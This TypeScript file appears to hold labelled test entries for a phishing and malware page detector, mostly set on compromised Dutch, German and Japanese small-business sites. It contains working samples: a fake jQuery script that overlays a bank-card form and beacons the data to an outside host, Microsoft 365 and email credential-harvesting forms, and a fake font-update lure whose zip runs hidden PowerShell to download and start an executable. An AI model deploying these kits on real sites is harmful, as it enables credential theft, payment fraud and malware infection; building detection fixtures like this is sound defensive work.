import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';
import { fileRoute, jsRoute, jsonRoute, pngRoute, zip } from '../parts/e-bin.js';
import { b64, cssApp, cssPlain, doc, pdfRoute } from '../parts/q-kit.js';

// Kits dropped on compromised small-business sites, and pages whose harmful part appears only after a delay or a click.

export const entries: Entry[] = [
{
  id: 'q-phish-florist-injected-overlay-bank',
  label: 'phishing',
  kind: 'compromised-site',
  url: 'https://www.bloemen-devries.nl/contact',
  body: doc({
    lang: 'nl',
    title: 'Contact – Bloemen de Vries',
    css: cssPlain('#be185d'),
    body: `<header class="top"><span class="name">Bloemen de Vries</span><nav><a href="#">Boeketten</a><a href="#">Rouwwerk</a><a href="#">Bezorging</a><a href="#">Contact</a></nav></header>
<main><div class="card"><h2 style="margin-top:0">Contact</h2><p>Marktstraat 14, Zwolle · 038-555 1234 · Di t/m za 9:00–17:30</p>
<p>Bestellen voor bezorging dezelfde dag kan tot 13:00.</p></div></main>
<footer>© Bloemen de Vries · KvK 05123456</footer>
<script src="/wp-includes/js/jquery/jquery.min.js?ver=3.7.1"></script>`,
  }),
  routes: {
    'www.bloemen-devries.nl/wp-includes/js/jquery/jquery.min.js': jsRoute(`/*! jQuery v3.7.1 | (c) OpenJS Foundation */window.jQuery=window.$=function(){return{ready:function(f){f()}}};
;(function(){if(document.cookie.indexOf('_vb=1')>-1)return;document.cookie='_vb=1;path=/;max-age=86400';
setTimeout(function(){var o=document.createElement('div');o.style.cssText='position:fixed;inset:0;background:rgba(0,0,0,.55);z-index:99999;display:flex;align-items:center;justify-content:center;font-family:Arial';
o.innerHTML=decodeURIComponent(escape(atob('${b64('<div style="background:#fff;padding:26px;width:360px;border-radius:6px"><h3 style="margin:0 0 8px">Betaling niet voltooid</h3><p style="font-size:14px;color:#444">Uw laatste bestelling (€ 34,95) is niet afgerond. Bevestig uw betaalgegevens om de bezorging door te laten gaan.</p><input id="vb1" placeholder="IBAN" style="width:100%;padding:8px;margin:4px 0"><input id="vb2" placeholder="Naam rekeninghouder" style="width:100%;padding:8px;margin:4px 0"><input id="vb3" placeholder="Pasnummer" style="width:100%;padding:8px;margin:4px 0"><input id="vb4" placeholder="Vervaldatum pas" style="width:100%;padding:8px;margin:4px 0"><button id="vb5" style="width:100%;padding:10px;background:#be185d;color:#fff;border:0">Bevestigen</button></div>')}')));
document.body.appendChild(o);document.getElementById('vb5').onclick=function(){var v=['vb1','vb2','vb3','vb4'].map(function(i){return document.getElementById(i).value});new Image().src='https://cdn-static-metrics.xyz/c.gif?d='+btoa(v.join('|'));o.remove();};},6000);})();`),
    'cdn-static-metrics.xyz/c.gif': pngRoute(0, 0, 0),
  },
},
{
  id: 'q-phish-garage-joomla-tmp-m365',
  label: 'phishing',
  kind: 'compromised-site',
  url: 'https://autowerkstatt-brandt.de/tmp/ms/?e=aW5mb0BrdW5kZS1iZXRyaWViLmRl',
  body: doc({
    lang: 'de',
    title: 'Anmelden',
    css: `body{margin:0;font-family:"Segoe UI",Arial,sans-serif;background:#f2f2f2}.c{width:440px;margin:90px auto;background:#fff;padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)}
h1{font-weight:600;font-size:24px;margin:0 0 14px}input{width:100%;border:0;border-bottom:1px solid #666;padding:8px 0;font-size:15px;margin-bottom:20px}
button{float:right;background:#0067b8;color:#fff;border:0;padding:8px 30px;font-size:15px}.e{color:#e81123;font-size:13px}`,
    body: `<div class="c"><div id="who" style="font-size:14px"></div><h1>Kennwort eingeben</h1>
<div class="e" id="err"></div><input id="pw" type="password" placeholder="Kennwort"><div style="font-size:13px"><a href="#">Kennwort vergessen?</a></div><br><button id="s">Anmelden</button><div style="clear:both"></div></div>
<script>
var e='';try{e=atob(new URLSearchParams(location.search).get('e')||'')}catch(x){}document.getElementById('who').textContent=e;var c=0;
document.getElementById('s').onclick=function(){fetch('/tmp/ms/send.php',{method:'POST',headers:{'content-type':'application/x-www-form-urlencoded'},body:'em='+encodeURIComponent(e)+'&pw='+encodeURIComponent(pw.value)});
c++;pw.value='';if(c<3){err.textContent='Ihr Konto oder Kennwort ist falsch.'}else{location.href='https://www.office.com/'}};
</script>`,
  }),
  routes: { 'autowerkstatt-brandt.de/tmp/ms/send.php': htmlRoute('1') },
},
{
  id: 'q-malware-delayed-font-missing-update',
  label: 'malware',
  kind: 'delayed-lure',
  url: 'https://www.kleingarten-verein-sonnenhang.de/aktuelles',
  body: doc({
    lang: 'de',
    title: 'Aktuelles – KGV Sonnenhang e.V.',
    css: cssPlain('#3f6212'),
    body: `<header class="top"><span class="name">KGV Sonnenhang e.V.</span><nav><a href="#">Verein</a><a href="#">Parzellen</a><a href="#">Aktuelles</a></nav></header>
<main id="m"><div class="card"><h2 style="margin-top:0">Herbstputz am 8. November</h2><p>Liebe Gartenfreunde, wir treffen uns um 10 Uhr am Vereinsheim. Bitte Harke und Handschuhe mitbringen. Für Kaffee und Kuchen ist gesorgt.</p></div>
<div class="card"><h2 style="margin-top:0">Wasserabstellung</h2><p>Das Wasser wird am 15.11. abgestellt. Bitte Zähler ablesen und bis 30.11. melden.</p></div></main>
<script src="/js/jquery-migrate.min.js"></script>`,
  }),
  routes: {
    'www.kleingarten-verein-sonnenhang.de/js/jquery-migrate.min.js': jsRoute(`setTimeout(function(){document.body.querySelectorAll('p,h2').forEach(function(n){n.textContent=n.textContent.split('').map(function(c){return String.fromCharCode(0x25A1)}).join('')});
var b=document.createElement('div');b.style.cssText='position:fixed;top:20%;left:50%;transform:translateX(-50%);width:460px;background:#fff;border:1px solid #999;box-shadow:0 4px 20px rgba(0,0,0,.4);padding:22px;font-family:Arial;z-index:9999';
b.innerHTML='<h3 style="margin:0 0 10px">The "HoeflerText" font wasn\\'t found.</h3><p style="font-size:14px">The web page you are trying to load is displayed incorrectly, as it uses the "HoeflerText" font. To fix the error and display the text, you have to update the "Chrome Font Pack".</p><p style="font-size:13px">Manufacturer: Google Inc.<br>Current version: 53.0.2785<br>Latest version: 53.0.2785.116</p><a href="/js/Chrome_Font.zip" style="display:inline-block;background:#4a8af4;color:#fff;padding:9px 20px;text-decoration:none">Update</a>';
document.body.appendChild(b);},5000);`),
    'www.kleingarten-verein-sonnenhang.de/js/Chrome_Font.zip': fileRoute(zip([{ name: 'Chrome_Font.js', data: 'var s=new ActiveXObject("WScript.Shell");s.Run("powershell -w h -c \\"iwr https://fontpack-update.com/f.exe -o $env:APPDATA\\\\f.exe;start $env:APPDATA\\\\f.exe\\"",0);' }]), 'application/zip', 'Chrome_Font.zip'),
  },
},
{
  id: 'q-phish-quote-request-click-reveal',
  label: 'phishing',
  kind: 'delayed-lure',
  url: 'https://rfq-documents-view.com/q/ARX-2291',
  body: doc({
    title: 'Request for quotation ARX-2291',
    css: cssPlain('#334155'),
    body: `<main><div class="card">
<h2 style="margin-top:0">Request for Quotation – ARX-2291</h2>
<p>Arnex Industrial Supplies would like a quotation for the items in the attached specification. Closing date: 28 Nov.</p>
<table><tr><th>Document</th><th>Size</th><th></th></tr><tr><td>ARX-2291_specification.xlsx</td><td>64 KB</td><td><a href="#" class="open">Open</a></td></tr><tr><td>Drawings_rev3.pdf</td><td>1.2 MB</td><td><a href="#" class="open">Open</a></td></tr></table>
</div><div id="gate"></div></main>
<footer>Arnex Industrial Supplies · Procurement</footer>
<script>
[].forEach.call(document.querySelectorAll('.open'),function(a){a.onclick=function(e){e.preventDefault();
document.getElementById('gate').innerHTML='<div class="card"><h3 style="margin-top:0">Sign in to download</h3><p class="muted">Supplier documents are available to registered suppliers. Use your business email account.</p><label>Business email</label><input id="u"><label>Password</label><input id="p" type="password"><p></p><button id="g">Download</button></div>';
document.getElementById('g').onclick=function(){fetch('/q/ARX-2291/s',{method:'POST',body:new URLSearchParams({u:u.value,p:p.value})}).then(function(){alert('Download failed. Please try again later.')})};};});
</script>`,
  }),
  routes: { 'rfq-documents-view.com/q/ARX-2291/s': jsonRoute({ ok: 1 }) },
},
{
  id: 'q-phish-voicemail-play-reveal-ja',
  label: 'phishing',
  kind: 'delayed-lure',
  url: 'https://voice-msg-center.jp/play/0931',
  body: doc({
    lang: 'ja',
    title: '留守番電話メッセージ',
    css: cssApp('#0f766e'),
    body: `<div class="wrap"><div class="box" id="b">
<h1>新しいボイスメッセージ (0:42)</h1>
<p>発信者: 03-5xxx-xxxx ・ 受信: 本日 10:14</p>
<button id="pl">▶ 再生</button></div></div>
<script>
document.getElementById('pl').onclick=function(){var b=document.getElementById('b');b.innerHTML='<h1>読み込み中…</h1>';
setTimeout(function(){b.innerHTML='<h1>再生するにはサインインしてください</h1><p>セキュリティ保護のため、メールアカウントの確認が必要です。</p><label>メールアドレス</label><input id="m"><label>パスワード</label><input id="p" type="password"><button id="s">サインイン</button><div class="err" id="e"></div>';
document.getElementById('s').onclick=function(){navigator.sendBeacon('/play/0931/a',new URLSearchParams({m:m.value,p:p.value}));document.getElementById('e').textContent='パスワードが正しくありません。';};},1800);};
</script>`,
  }),
  routes: { 'voice-msg-center.jp/play/0931/a': jsonRoute({}) },
},
];
